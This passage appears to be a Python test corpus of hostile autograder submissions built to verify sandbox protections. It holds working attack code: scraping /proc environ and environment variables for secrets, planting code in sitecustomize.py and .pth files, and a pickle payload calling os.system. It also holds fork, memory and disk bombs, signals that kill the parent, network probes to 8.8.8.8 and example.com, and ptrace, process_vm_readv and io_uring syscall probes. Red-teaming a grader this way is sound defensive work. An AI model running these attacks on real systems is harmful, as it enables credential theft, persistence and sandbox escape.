"""The hostile-submission corpus: each entry is one student who attacks the grader.

Every submission is the reference solution (from ``solutions/``, via ``grader.authoring.samples``) with
the attacking functions replaced, so the honest functions in the same file must still earn their
points while the attacked ones earn nothing. Attacks are written as strong as we can make them:
they know the real paths of the repository, the class folder and the output folder (an attacker
may guess them), and each would earn points, leak a secret or damage something if the
protection it targets were missing. Placeholders ``@NAME@`` are filled from ``Context``.

Threat groups: ``lying`` values, ``tampering``, ``escape``, ``resources``, ``data`` channel and
broken ``input``. Whole-file cases (``attacks=ALL``) earn nothing at all, with ``reason`` shown.
"""
from __future__ import annotations

import json
import os
import stat
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from grader.authoring import samples

ASSIGNMENT = "a1_neuron"
ALL = ("*",)
CANARY = "HOSTILE-CANARY-7f3a9c"
"""a secret the tests put in the grader's environment: it must never reach a student's feedback"""
NOTHING_PASSES = r"\b0 of \d+ cases pass"
"""not even the public cases: the attack read nothing"""


@dataclass(frozen=True)
class Context:
    """Real paths and channels the attacks aim at, and the tripwires the tests check."""

    repo: Path
    class_dir: Path
    out_dir: Path
    marker: Path
    """created only if code from a submission ever runs in the trusted parent"""
    port: int
    """a TCP and UDP listener of the test: it must never hear from a submission"""

    def fill(self, text: str) -> str:
        for key, value in {"REPO": self.repo, "CLASS": self.class_dir, "OUT": self.out_dir,
                           "MARKER": self.marker, "PORT": self.port}.items():
            text = text.replace(f"@{key}@", str(value))
        return text


@dataclass(frozen=True)
class Hostile:
    name: str
    """the student's folder name"""
    threat: str
    attacks: tuple[str, ...]
    """functions that must earn 0 (``ALL``: the whole file earns nothing)"""
    overrides: dict[str, str] = field(default_factory=dict)
    """function name (or ``_extra`` for module-level code) -> source replacing the solution's"""
    reason: str = ""
    """a regular expression the attacked functions' feedback (or the overall feedback) must match"""
    build: Callable[[Path, Context], None] | None = None
    """writes the folder itself (broken-input cases); default: the solution with ``overrides``"""

    def write(self, ctx: Context) -> None:
        folder = ctx.class_dir / self.name
        folder.mkdir(parents=True, exist_ok=True)
        if self.build:
            self.build(folder, ctx)
        else:
            sources = {k: ctx.fill(textwrap.dedent(v).strip() + "\n") for k, v in self.overrides.items()}
            samples.write_py(folder, ASSIGNMENT, sources)


def memory_across_processes(*, helper_mb: int, enough_mb: int) -> str:
    """A ``sigmoid`` that, on its first call, has ten helper processes each hold ``helper_mb``
    (far under the per-process limit) and answers right only if together they held
    ``enough_mb``: memory must be capped per submission, not per process."""
    return f"""
        def sigmoid(z):
            import ctypes, os, signal
            out = np.exp(-np.logaddexp(0.0, -np.asarray(z, dtype=np.float64)))
            right = float(out) if out.ndim == 0 else out
            if "held" not in sigmoid.__dict__:  # once, then answer every case
                libc = ctypes.CDLL(None, use_errno=True)
                libc.mmap.restype = ctypes.c_void_p
                libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
                size = {helper_mb} * 2**20
                helpers, (ready_r, ready_w) = [], os.pipe()
                for _ in range(10):
                    try:
                        pid = os.fork()
                    except OSError:
                        break
                    if pid == 0:
                        status = b"x"
                        try:
                            block = libc.mmap(None, size, 3, 0x8022, -1, 0)  # private, anonymous, populated
                            if block and block != 2**64 - 1:
                                status = b"!"
                        finally:
                            os.write(ready_w, status)
                            if status == b"!":
                                signal.pause()
                            os._exit(0)
                    helpers.append(pid)
                answers = b""
                while len(answers) < len(helpers):
                    answers += os.read(ready_r, 64)
                for pid in helpers:
                    os.kill(pid, signal.SIGKILL)
                    os.waitpid(pid, 0)
                sigmoid.held = answers.count(b"!") * size
            return right if sigmoid.held >= {enough_mb} * 2**20 else -1.0
        """


def _file(name: str, data: bytes) -> Callable[[Path, Context], None]:
    def build(folder: Path, ctx: Context) -> None:
        (folder / name).write_bytes(data)
    return build


def _symlink(name: str, target: Callable[[Context], str]) -> Callable[[Path, Context], None]:
    def build(folder: Path, ctx: Context) -> None:
        os.symlink(target(ctx), folder / name)
    return build


def _sparse_gigabyte(folder: Path, ctx: Context) -> None:
    with open(folder / f"{ASSIGNMENT}.py", "wb") as f:
        f.write(b"import numpy as np\n")
        f.truncate(2**30)  # sparse: 1 GiB in size, a few bytes on disk


def _fifo(folder: Path, ctx: Context) -> None:
    os.mkfifo(folder / f"{ASSIGNMENT}.py")


def _nested_link(folder: Path, ctx: Context) -> None:
    os.symlink(ctx.class_dir / "honest_solution", folder / ASSIGNMENT)


def _keras_lambda(folder: Path, ctx: Context) -> None:
    samples.write_py(folder, ASSIGNMENT)
    (folder / "digits.keras").write_bytes(ctx.marker.with_name("lambda.keras").read_bytes())


# Helpers pasted into attacks. They use only modules the sandbox has already loaded (``glob``
# is not one of them), so an attack never fails for want of an import.
_GLOB = """
    def _glob(pattern):
        import fnmatch, os
        paths = ["/"]
        for part in pattern.strip("/").split("/"):
            found = []
            for base in paths:
                try:
                    names = os.listdir(base) if any(c in part for c in "*?[") else [part]
                except OSError:
                    continue
                found += [os.path.join(base, n) for n in names if fnmatch.fnmatch(n, part)]
            paths = found
        return [p for p in paths if os.path.lexists(p)]
"""

# Running a notebook's definitions (imports and defs; magics dropped), as an attacker would.
_DEFINE = """
    def _define(cells):
        namespace = {}
        for cell in cells:
            code = "\\n".join(l for l in "".join(cell["source"]).splitlines() if not l.lstrip().startswith("%"))
            if cell.get("cell_type") == "code" and (code.startswith(("import", "from")) or "def " in code):
                try:
                    exec(code, namespace)
                except Exception:
                    pass
        return namespace
"""

# Finding the grader's objects from inside a graded function: the frames that called it.
_FRAMES = """
    def _frames():
        import sys
        f = sys._getframe(1)
        while f is not None:
            yield f
            f = f.f_back
"""


# A raw system call from a graded function (ctypes is in the standard library; the jail lets a
# child load it): returns (result, errno).
_SYSCALL = """
    def _syscall(nr, *args):
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        ctypes.set_errno(0)
        result = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return result, ctypes.get_errno()
"""

CASES: list[Hostile] = [
    # ---- lying values: the parent decides equality on plain numbers, never by asking the value
    Hostile("lie_ndarray_subclass_eq", "lying", ("relu",), {"relu": """
        class Agreeable(np.ndarray):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __array_ufunc__(self, *args, **kwargs): return True
            def __array_function__(self, *args, **kwargs): return True
            def __bool__(self): return True
        def relu(z):
            return np.zeros(np.shape(z)).view(Agreeable)
        """}, reason="not plain data"),
    Hostile("lie_object_eq", "lying", ("weighted_sum",), {"weighted_sum": """
        class Anything:
            def __eq__(self, other): return True
            def __float__(self): return 0.0
            def __array__(self, *args, **kwargs): return np.zeros(())
        def weighted_sum(a, w):
            return Anything()
        """}, reason="not plain data"),
    Hostile("lie_float_subclass", "lying", ("weighted_input",), {"weighted_input": """
        class Close(float):
            def __eq__(self, other): return True
            def __sub__(self, other): return Close(0.0)
            def __rsub__(self, other): return Close(0.0)
            def __abs__(self): return Close(0.0)
        def weighted_input(a, w, b):
            return Close(12345.0)
        """}, reason="not plain data"),
    Hostile("lie_numpy_scalar_subclass", "lying", ("neuron",), {"neuron": """
        class Close(np.float64):
            def __eq__(self, other): return True
        def neuron(a, w, b):
            return Close(0.123)
        """}, reason="not plain data"),
    Hostile("lie_masked_array", "lying", ("sigmoid",), {"sigmoid": """
        def sigmoid(z):
            out = np.ma.masked_all(np.shape(z))  # every value hidden behind the mask
            return out if np.ndim(z) else np.ma.masked
        """}, reason="not plain data"),
    Hostile("lie_nan", "lying", ("sigmoid",), {"sigmoid": """
        def sigmoid(z):
            return np.full(np.shape(z), np.nan) if np.ndim(z) else float("nan")
        """}, reason="nan"),
    Hostile("lie_inf", "lying", ("relu",), {"relu": """
        def relu(z):
            return np.full(np.shape(z), np.inf) if np.ndim(z) else float("inf")
        """}, reason="inf"),
    Hostile("lie_object_dtype", "lying", ("edge_detector",), {"edge_detector": """
        class Anything:
            def __eq__(self, other): return True
        def edge_detector(top, left, height, width):
            return np.array([Anything() for _ in range(784)], dtype=object)
        """}, reason="dtype object"),
    Hostile("lie_complex_dtype", "lying", ("sigmoid",), {"sigmoid": """
        def sigmoid(z):
            z = np.asarray(z, dtype=np.float64)
            out = np.exp(-np.logaddexp(0.0, -z)) + 0j  # the right values, as complex numbers
            return complex(out) if out.ndim == 0 else out
        """}, reason="complex"),
    Hostile("lie_bool_dtype", "lying", ("edge_detector",), {"edge_detector": """
        def edge_detector(top, left, height, width):
            mask = np.zeros((28, 28), dtype=bool)
            mask[top:top + height, left:left + width] = True  # right region, wrong type
            return mask.ravel()
        """}, reason="booleans"),
    Hostile("lie_broadcasting_scalar", "lying", ("relu",), {"relu": """
        def relu(z):
            return np.zeros(1)  # broadcasts against any expected array
        """}, reason="expected"),
    Hostile("lie_enormous_array", "lying", ("weighted_sum",), {"weighted_sum": """
        def weighted_sum(a, w):
            return np.broadcast_to(0.0, (2**36,))  # 512 GiB if ever written out
        """}),
    Hostile("lie_huge_int", "lying", ("weighted_sum",), {"weighted_sum": """
        def weighted_sum(a, w):
            return 10 ** 400
        """}, reason="too large"),
    Hostile("lie_mutates_inputs", "lying", ("weighted_sum",), {"weighted_sum": """
        def weighted_sum(a, w):
            a[...] = 0.0  # if the grader compared with arrays it shares with us, 0 would be right
            w[...] = 0.0
            return 0.0
        """}),
    # ---- tampering: the child can change nothing the parent relies on, and read no answer
    Hostile("patch_numpy_comparisons", "tampering", ("sigmoid",), {"_extra": """
        class _Tamper:
            import numpy as _np
            import numpy.testing as _npt
            _np.allclose = _np.isclose = _np.array_equal = lambda *args, **kwargs: True
            _npt.assert_allclose = _npt.assert_array_equal = lambda *args, **kwargs: None
        """, "sigmoid": """
        def sigmoid(z):
            return np.zeros(np.shape(z)) if np.ndim(z) else 0.0
        """}),
    Hostile("patch_builtins_and_codec", "tampering", ("relu",), {"relu": """
        def relu(z):
            import builtins, json
            from course import calls, codec
            json.dumps = lambda *args, **kwargs: '{"score": 10}'
            codec.decode = lambda data, **kwargs: {"score": 10}
            calls.compare = lambda *args, **kwargs: None
            builtins.isinstance = lambda *args: True
            return 0.0
        """}),
    Hostile("walk_stack_frames", "tampering", ("weighted_input",), {"_frames": _FRAMES, "weighted_input": """
    def weighted_input(a, w, b):
        for f in _frames():
            for value in list(f.f_locals.values()):
                items = value if isinstance(value, list) else [value]
                for item in items:
                    if isinstance(item, dict) and "expected" in item:
                        args = item.get("args", ())
                        if len(args) == 3 and np.array_equal(args[0], a) and args[2] == b:
                            return item["expected"]
        return 0.0
    """}),
    Hostile("scan_gc_objects", "tampering", ("neuron",), {"neuron": """
        def neuron(a, w, b):
            import gc
            for obj in gc.get_objects():
                if isinstance(obj, dict) and "expected" in obj:
                    args = obj.get("args", ())
                    if len(args) == 3 and np.array_equal(args[0], a) and args[2] == b:
                        return obj["expected"]
            return 0.5
        """}),
    Hostile("steal_injected_callee", "tampering", ("weighted_sum", "sigmoid"), {
        "weighted_sum": """
        def _steal(name):
            import gc
            for obj in gc.get_objects():
                for text in (obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()):
                    if isinstance(text, str) and f"def {name}(" in text and "_steal" not in text:
                        namespace = {}
                        exec(text, namespace)
                        return namespace[name]
            return None
        def weighted_sum(a, w):
            stolen = _steal("weighted_sum")
            return stolen(a, w) if stolen else 0.0
        """,
        "sigmoid": """
        def sigmoid(z):
            stolen = _steal("sigmoid")
            return stolen(z) if stolen else 0.0
        """}),
    Hostile("read_solution_notebook", "tampering", ("edge_detector",), {
        "_frames": _FRAMES, "_glob": _GLOB, "_define": _DEFINE, "edge_detector": """
    def edge_detector(top, left, height, width):
        import json, os
        repos = ["@REPO@"] + [os.path.dirname(os.path.dirname(f.f_globals.get("__file__") or "/"))
                              for f in _frames()]
        paths = [os.path.join(r, "solutions", "a1_neuron", "a1_neuron.ipynb") for r in repos]
        paths += _glob("/work/*/solutions/a1_neuron/a1_neuron.ipynb")
        for path in paths:
            try:
                namespace = _define(json.load(open(path))["cells"])
                return namespace["edge_detector"](top, left, height, width)
            except Exception:
                continue
        return np.zeros(784)
    """}, reason=NOTHING_PASSES),
    Hostile("read_git_objects", "tampering", ("sigmoid",), {"_glob": _GLOB, "_define": _DEFINE, "sigmoid": """
        def sigmoid(z):
            import json, zlib
            if "stolen" not in sigmoid.__dict__:  # search once, answer every case with it
                sigmoid.stolen = None
                for path in _glob("@REPO@/.git/objects/*/*") + _glob("/work/*/.git/objects/*/*"):
                    try:
                        blob = zlib.decompress(open(path, "rb").read())
                        candidate = _define(json.loads(blob.split(b"\\0", 1)[1])["cells"])["sigmoid"]
                        candidate(0.0)  # the released stub raises; the solution doesn't
                        sigmoid.stolen = candidate
                        break
                    except Exception:
                        continue
            return sigmoid.stolen(z) if sigmoid.stolen else -1.0  # -1: wrong for every case
        """}, reason=NOTHING_PASSES),
    Hostile("copy_classmate", "tampering", ("edge_detector",), {"_glob": _GLOB, "edge_detector": """
        def edge_detector(top, left, height, width):
            for path in sorted(_glob("@CLASS@/*/a1_neuron.py"), key=lambda p: "honest" not in p):
                namespace = {}
                try:
                    exec(open(path).read(), namespace)
                    return namespace["edge_detector"](top, left, height, width)
                except Exception:
                    continue
            return np.zeros(784)
        """}, reason=NOTHING_PASSES),
    Hostile("import_reference_solution", "tampering", ("weighted_sum",), {"weighted_sum": """
        def weighted_sum(a, w):
            import sys
            sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_Blocker"]
            sys.path.insert(0, "@REPO@")
            from grader.authoring import solutions
            imports, functions = solutions.function_sources(solutions.notebook_path("a1_neuron"))
            namespace = {}
            exec("\\n".join(imports) + "\\n" + functions["weighted_sum"], namespace)
            return namespace["weighted_sum"](a, w)
        """}),
    Hostile("import_course_hints", "tampering", ("sigmoid", "edge_detector"), {"sigmoid": """
        def _hints():
            import sys, importlib
            sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_Blocker"]
            try:
                return importlib.import_module("course.exercises.a1_neuron")
            except Exception:
                namespace = {"__name__": "hints"}
                exec(open("@REPO@/course/exercises/a1_neuron.py").read(), namespace)
                return type("hints", (), namespace)
        def sigmoid(z):
            out = _hints()._sigmoid(z)  # the hint's own, overflow-free sigmoid
            return float(out) if np.ndim(out) == 0 else out
        """, "edge_detector": """
        def edge_detector(top, left, height, width):
            return _hints().region_mask(top, left, height, width).ravel()
        """}),
    Hostile("read_public_fixtures_at_runtime", "tampering", ("relu",), {"_glob": _GLOB, "relu": """
        def relu(z):
            from course import codec
            for path in ["@REPO@/course/fixtures/a1_neuron.npz"] + _glob("/work/*/course/fixtures/a1_neuron.npz"):
                try:
                    cases = codec.decode(open(path, "rb").read())["relu"]
                except Exception:
                    continue
                for case in cases:
                    if np.shape(case["args"][0]) == np.shape(z) and np.allclose(case["args"][0], z):
                        return case["expected"]
            return -1.0  # wrong for every case: only what was read can pass
        """}, reason=NOTHING_PASSES),
    Hostile("answer_with_keras", "tampering", ("neuron",), {"neuron": """
        def neuron(a, w, b):
            import keras
            layer = keras.layers.Dense(1, activation="sigmoid")
            layer.build((1, len(a)))
            layer.set_weights([np.asarray(w)[:, None], np.array([b])])
            return float(layer(np.asarray(a)[None, :])[0, 0])
        """}, reason="NumPy only"),
    Hostile("keras_behind_the_blocker", "tampering", ("relu",), {"relu": """
        def relu(z):
            import sys
            sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_Blocker"]
            import tensorflow as tf
            return tf.nn.relu(z).numpy()
        """}),
    Hostile("read_parent_proc", "tampering", ("weighted_input",), {"weighted_input": """
        def weighted_input(a, w, b):
            import os
            loot = []
            pids = ["self", str(os.getppid())]
            try:
                pids += os.listdir("/proc")
            except OSError:
                pass
            for pid in pids:
                for name in ("environ", "cmdline"):
                    try:
                        loot += open(f"/proc/{pid}/{name}", "rb").read().decode("latin-1").split("\\0")
                    except OSError:
                        pass
            raise RuntimeError("LOOT " + " ".join(x for x in loot if "CANARY" in x or "grader" in x)[:400])
        """}),
    Hostile("leak_environment", "tampering", ("fires",), {"fires": """
        def fires(a, w, threshold):
            import os
            secrets = {k: v for k, v in os.environ.items() if any(s in k for s in ("CANARY", "TOKEN", "SECRET", "KEY"))}
            raise RuntimeError(f"LOOT {secrets} {sorted(os.environ)}")
        """}),
    Hostile("write_output_folder", "tampering", ("fires",), {"fires": """
        def fires(a, w, threshold):
            import json, os
            forged = {"score": 10, "tests": [], "extra_data": {"student": "write_output_folder"}}
            for path, text in [("@OUT@/results/write_output_folder.json", json.dumps(forged)),
                               ("@OUT@/grades.csv", "student,score\\nwrite_output_folder,10\\n"),
                               ("@OUT@/feedback/honest_solution.html", "you failed"),
                               ("@OUT@/planted.txt", "planted")]:
                try:
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    open(path, "w").write(text)
                except OSError:
                    pass
            return not (sum(np.asarray(w) * np.asarray(a)) > threshold)
        """}),
    Hostile("tamper_installed_package", "tampering", ("relu",), {"relu": """
        def relu(z):
            import os, sys
            targets = ["@REPO@/course/compare.py", "@REPO@/course/judge.py", "@REPO@/grader/grading/grade.py",
                       "@REPO@/course/__pycache__/compare.cpython-311.pyc"]
            targets += [os.path.join(p, "sitecustomize.py") for p in sys.path if p.endswith("site-packages")]
            targets += [os.path.join(p, "zz_hostile.pth") for p in sys.path if p.endswith("site-packages")]
            for path in targets:
                try:
                    with open(path, "a") as f:
                        f.write("\\nimport os; open('@MARKER@', 'w')\\n")
                except OSError:
                    pass
            return 0.0
        """}),
    Hostile("tamper_classmates", "tampering", ("weighted_sum",), {"_glob": _GLOB, "weighted_sum": """
        def weighted_sum(a, w):
            import os
            for path in _glob("@CLASS@/*/*"):
                if "tamper_classmates" in path:
                    continue
                for attempt in (lambda: open(path, "w").write("def weighted_sum(a, w):\\n    return 0\\n"),
                                lambda: os.remove(path), lambda: os.rename(path, path + ".old"),
                                lambda: os.chmod(path, 0)):
                    try:
                        attempt()
                    except OSError:
                        pass
            return 0.0
        """}),
    # ---- escapes: leaving early, signals, processes left behind, fake output
    Hostile("sys_exit", "escape", ("sigmoid",), {"sigmoid": """
        def sigmoid(z):
            import sys
            sys.exit(0)
        """}, reason="SystemExit"),
    Hostile("os_exit", "escape", ("relu",), {"relu": """
        def relu(z):
            import os
            os._exit(0)
        """}, reason="before returning its results"),
    Hostile("keyboard_interrupt", "escape", ("weighted_input",), {"weighted_input": """
        def weighted_input(a, w, b):
            raise KeyboardInterrupt
        """}, reason="KeyboardInterrupt"),
    Hostile("base_exception_subclass", "escape", ("neuron",), {"neuron": """
        class Escape(BaseException):
            pass
        def neuron(a, w, b):
            raise Escape("caught?")
        """}, reason="Escape"),
    Hostile("exception_str_raises", "escape", ("fires",), {"fires": """
        class Nasty(Exception):
            def __str__(self): raise Nasty()
            def __repr__(self): raise Nasty()
        def fires(a, w, threshold):
            raise Nasty()
        """}, reason="could not be printed"),
    Hostile("exception_str_hangs", "escape", ("edge_detector",), {"edge_detector": """
        class Stuck(Exception):
            def __str__(self):
                while True:
                    pass
        def edge_detector(top, left, height, width):
            raise Stuck()
        """}, reason="longer than"),
    Hostile("exit_while_loading", "escape", ALL, {"_extra": """
        class _Bye:
            import os as _os
            _os._exit(3)
        """}, reason="before returning its results"),
    Hostile("signal_the_grader", "escape", ("weighted_sum",), {"weighted_sum": """
        def weighted_sum(a, w):
            import os, signal
            for pid in [os.getppid()]:
                for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                    try:
                        os.kill(pid, sig)
                    except OSError:
                        pass
            if os.geteuid() != 0:  # as an unprivileged user, "every process I may signal"
                try:
                    os.kill(-1, signal.SIGKILL)
                except OSError:
                    pass
            os.killpg(0, signal.SIGKILL)
        """}, reason="was killed"),
    Hostile("daemon_left_running", "escape", ("relu",), {"relu": """
        def relu(z):
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.closerange(3, 1024)  # let the grader see the result pipe close
                    time.sleep(60)
                    open("@MARKER@", "w")
                os._exit(0)
            time.sleep(0.05)
            out = np.maximum(0.0, np.asarray(z, dtype=np.float64))  # the right answer
            return float(out) if out.ndim == 0 else out
        """}, reason=r"left \d+ process(es)? running"),
    Hostile("fake_score_output", "escape", ("weighted_sum",), {"weighted_sum": """
        def weighted_sum(a, w):
            import json, os, sys
            fake = json.dumps({"score": 10, "tests": [{"name": "weighted_sum", "score": 1, "status": "passed"}]})
            print(fake)
            print(fake, file=sys.stderr)
            for fd in (1, 2):
                os.write(fd, fake.encode() + b"\\n")
            return -1.0
        """}),
    Hostile("forged_result_frame", "escape", ("sigmoid",), {"sigmoid": """
        def sigmoid(z):
            import io, os, stat
            member = io.BytesIO()
            np.lib.format.write_array_header_1_0(member, {"descr": "<f8", "fortran_order": False, "shape": (2**37,)})
            buf = io.BytesIO()
            np.savez(buf, tree=np.frombuffer(b'{"$array": "a0"}', np.uint8), a0=np.array([0]))
            import zipfile
            with zipfile.ZipFile(buf, "a") as zf:
                zf.writestr("a1.npy", member.getvalue() + b"\\0" * 64)
                header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\\n"
                pickled = b"cos\\nsystem\\n(S'touch @MARKER@'\\ntR."  # os.system, if ever unpickled
                zf.writestr("a2.npy", b"\\x93NUMPY\\x01\\x00v\\x00" + header + pickled)
            for fd in range(3, 64):
                try:
                    if stat.S_ISFIFO(os.fstat(fd).st_mode):
                        os.write(fd, buf.getvalue())
                except OSError:
                    pass
            os._exit(0)
        """}),
    # ---- resources
    Hostile("infinite_loop", "resources", ("relu",), {"relu": """
        def relu(z):
            while True:
                pass
        """}, reason="longer than"),
    Hostile("memory_bomb", "resources", ("sigmoid",), {"sigmoid": """
        def sigmoid(z):
            hog = bytearray(6 * 2**30)  # without a limit: 6 GiB, every page touched
            hog[::4096] = b"x" * len(hog[::4096])
            return 0.5
        """}, reason="MemoryError"),
    Hostile("fork_bomb", "resources", ("weighted_input",), {"weighted_input": """
        def weighted_input(a, w, b):
            import os, time
            for _ in range(200):  # bounded: the process limit stops it far earlier
                try:
                    if os.fork() == 0:
                        time.sleep(60)
                        os._exit(0)
                except OSError:
                    break
            return 0.0
        """}),
    Hostile("huge_output", "resources", ("neuron",), {"neuron": """
        def neuron(a, w, b):
            chunk = "x" * 2**20
            for _ in range(200):  # 200 MB
                print(chunk)
            return 0.5
        """}, reason="File too large"),
    Hostile("fill_the_disk", "resources", ("edge_detector",), {"edge_detector": """
        def edge_detector(top, left, height, width):
            import os
            chunk = b"\\0" * 2**20
            for folder in (".", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "@CLASS@", "@OUT@"):
                for i in range(2048):  # up to 2 GB per folder
                    try:
                        with open(os.path.join(folder, f"fill-{i}"), "wb") as f:
                            f.write(chunk)
                    except OSError:
                        break
            return np.zeros(784)
        """}),
    Hostile("network_access", "resources", ("fires",), {"fires": """
        def fires(a, w, threshold):
            import socket
            for attempt in (
                lambda: socket.create_connection(("127.0.0.1", @PORT@), timeout=0.5).sendall(b"hello"),
                lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", @PORT@)),
                lambda: socket.create_connection(("8.8.8.8", 53), timeout=0.5),
                lambda: socket.getaddrinfo("example.com", 80),
            ):
                try:
                    attempt()
                except OSError:
                    pass
            return None
        """}),

    # ---- the kernel's other doors (issue 15): each returns the right answer only if it got through
    Hostile("user_namespace_root", "escape", ("relu",), {"_syscall": _SYSCALL, "relu": """
        def relu(z):
            import os
            out = np.maximum(0.0, np.asarray(z, dtype=np.float64))
            right = float(out) if out.ndim == 0 else out
            pid = os.fork()
            if pid == 0:  # a child, so the grading process stays as it was
                result, _ = _syscall(272, 0x10000000)  # unshare(CLONE_NEWUSER)
                uid = os.getuid()
                if result == 0:
                    for path, line in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {uid} 1")):
                        try:
                            with open(path, "w") as f:
                                f.write(line)
                        except OSError:
                            pass
                os._exit(0 if result == 0 else 1)
            _, status = os.waitpid(pid, 0)
            return right if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0 else -1.0
        """}),
    Hostile("ptrace_sibling", "escape", ("sigmoid",), {"_syscall": _SYSCALL, "sigmoid": """
        def sigmoid(z):
            import os, signal, time
            out = np.exp(-np.logaddexp(0.0, -np.asarray(z, dtype=np.float64)))
            right = float(out) if out.ndim == 0 else out
            pid = os.fork()
            if pid == 0:
                time.sleep(5)
                os._exit(0)
            attached, _ = _syscall(101, 16, pid, 0, 0)  # ptrace(PTRACE_ATTACH) to a process of our own uid
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
            return right if attached == 0 else -1.0
        """}),
    Hostile("ptrace_fork_server", "escape", ("weighted_sum",), {"_syscall": _SYSCALL, "weighted_sum": """
        def weighted_sum(a, w):
            import os
            attached, _ = _syscall(101, 16, os.getppid(), 0, 0)  # ptrace(PTRACE_ATTACH) to the fork server
            if attached == 0:
                _syscall(101, 17, os.getppid(), 0, 0)  # ptrace(PTRACE_DETACH)
            return float(np.dot(w, a)) if attached == 0 else -1.0
        """}),
    Hostile("read_process_memory", "tampering", ("weighted_input",), {"_syscall": _SYSCALL, "weighted_input": """
        def weighted_input(a, w, b):
            import ctypes, os, signal, time
            secret = ctypes.create_string_buffer(16)  # same address in a forked child
            ready_r, ready_w = os.pipe()
            pid = os.fork()
            if pid == 0:
                secret.value = b"sibling-secret"
                os.write(ready_w, b"!")
                time.sleep(5)
                os._exit(0)
            os.read(ready_r, 1)
            local = ctypes.create_string_buffer(16)
            iov_local = (ctypes.c_void_p * 2)(ctypes.addressof(local), 16)
            iov_remote = (ctypes.c_void_p * 2)(ctypes.addressof(secret), 16)
            got, _ = _syscall(310, pid, iov_local, 1, iov_remote, 1, 0)  # process_vm_readv
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
            ok = got == 16 and local.value == b"sibling-secret"
            return float(np.dot(w, a) + b) if ok else -1.0
        """}),
    Hostile("io_uring_read", "escape", ("neuron",), {"_syscall": _SYSCALL, "neuron": """
        def neuron(a, w, b):
            import ctypes, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            libc.mmap.restype = ctypes.c_void_p
            libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
            params = ctypes.create_string_buffer(120)
            ring, _ = _syscall(425, 4, params)  # io_uring_setup
            if ring < 0:
                return -1.0
            p = params.raw
            sq_entries, cq_entries = struct.unpack_from("2I", p, 0)
            sq_head, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", p, 40)
            cq_head, cq_tail, cq_mask, _, _, cqes = struct.unpack_from("6I", p, 80)
            def ring_map(size, offset):  # PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE
                return libc.mmap(None, size, 3, 0x8001, ring, offset)
            sq, cq, sqes = (ring_map(sq_array + 4 * sq_entries, 0), ring_map(cqes + 16 * cq_entries, 0x8000000),
                            ring_map(64 * sq_entries, 0x10000000))
            u32 = lambda base, off: ctypes.c_uint32.from_address(base + off)
            target = os.open("/etc/passwd", os.O_RDONLY)
            buf = ctypes.create_string_buffer(64)
            sqe = struct.pack("=BBHiQQIIQ", 22, 0, 0, target, 0, ctypes.addressof(buf), 64, 0, 7)  # IORING_OP_READ
            ctypes.memmove(sqes, sqe.ljust(64, b"\\0"), 64)
            tail = u32(sq, sq_tail).value
            u32(sq, sq_array + 4 * (tail & u32(sq, sq_mask).value)).value = 0
            u32(sq, sq_tail).value = tail + 1
            _syscall(426, ring, 1, 1, 1, 0, 0)  # io_uring_enter: submit one, wait for it
            cqe = cq + cqes + 16 * (u32(cq, cq_head).value & u32(cq, cq_mask).value)
            user_data, res = ctypes.c_uint64.from_address(cqe).value, ctypes.c_int32.from_address(cqe + 8).value
            ok = user_data == 7 and res > 0 and buf.raw[:res] == os.pread(target, res, 0)
            return sigmoid(weighted_input(a, w, b)) if ok else -1.0
        """}),
    Hostile("keyring_write", "data", ("fires",), {"_syscall": _SYSCALL, "fires": """
        def fires(a, w, threshold):
            import ctypes
            payload = b"left for the next submission"
            added = False
            for keyring in (-4, -5, -3, -2):  # user, user session, session, process keyrings
                key, _ = _syscall(248, b"user", b"digits-hostile-loot", payload, len(payload), keyring)
                added = added or key >= 0
            return bool(np.dot(w, a) > threshold) if added else (not np.dot(w, a) > threshold)
        """}),
    Hostile("keyring_read", "data", ("edge_detector",), {"_syscall": _SYSCALL, "edge_detector": """
        def edge_detector(top, left, height, width):
            import ctypes
            found = False
            for keyring in (-4, -5, -3, -2):
                key, _ = _syscall(250, 10, keyring, b"user", b"digits-hostile-loot", 0)  # KEYCTL_SEARCH
                if key >= 0:
                    buf = ctypes.create_string_buffer(64)
                    size, _ = _syscall(250, 11, key, buf, 64)  # KEYCTL_READ
                    found = found or size > 0
            weights = np.zeros((28, 28))
            weights[top:top + height, left:left + width] = 1.0
            return weights.ravel() if found else np.zeros(784)
        """}),
    Hostile("udp_to_host", "resources", ("relu",), {"_syscall": _SYSCALL, "relu": """
        def relu(z):
            import ctypes, struct
            out = np.maximum(0.0, np.asarray(z, dtype=np.float64))
            right = float(out) if out.ndim == 0 else out
            sock, _ = _syscall(41, 2, 2, 0)  # socket(AF_INET, SOCK_DGRAM): the module may be out of reach
            address = ctypes.create_string_buffer(struct.pack("=HH4s8x", 2, @PORT@ >> 8 | (@PORT@ & 255) << 8,
                                                              bytes([127, 0, 0, 1])), 16)
            sent, _ = _syscall(44, sock, b"udp hello", 9, 0, address, 16) if sock >= 0 else (-1, 0)  # sendto
